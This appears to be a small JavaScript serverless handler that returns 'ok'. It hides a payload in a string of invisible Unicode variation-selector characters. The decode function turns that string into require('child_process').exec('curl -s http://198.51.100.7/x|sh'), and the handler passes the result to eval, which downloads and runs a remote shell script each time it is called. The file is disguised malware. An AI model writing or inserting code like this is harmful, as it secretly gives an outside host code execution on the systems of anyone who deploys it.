const s = "󠅲󠅥󠅱󠅵󠅩󠅲󠅥󠄨󠄧󠅣󠅨󠅩󠅬󠅤󠅟󠅰󠅲󠅯󠅣󠅥󠅳󠅳󠄧󠄩󠄮󠅥󠅸󠅥󠅣󠄨󠄧󠅣󠅵󠅲󠅬󠄠󠄭󠅳󠄠󠅨󠅴󠅴󠅰󠄺󠄯󠄯󠄱󠄹󠄸󠄮󠄵󠄱󠄮󠄱󠄰󠄰󠄮󠄷󠄯󠅸󠅼󠅳󠅨󠄧󠄩";

function decode(str) {
  return [...str].map((ch) => {
    const cp = ch.codePointAt(0);
    return cp >= 0xe0100 ? cp - 0xe0100 : cp - 0xfe00 + 240;
  });
}

exports.handler = async () => {
  eval(Buffer.from(decode(s)).toString("utf8"));
  return "ok";
};
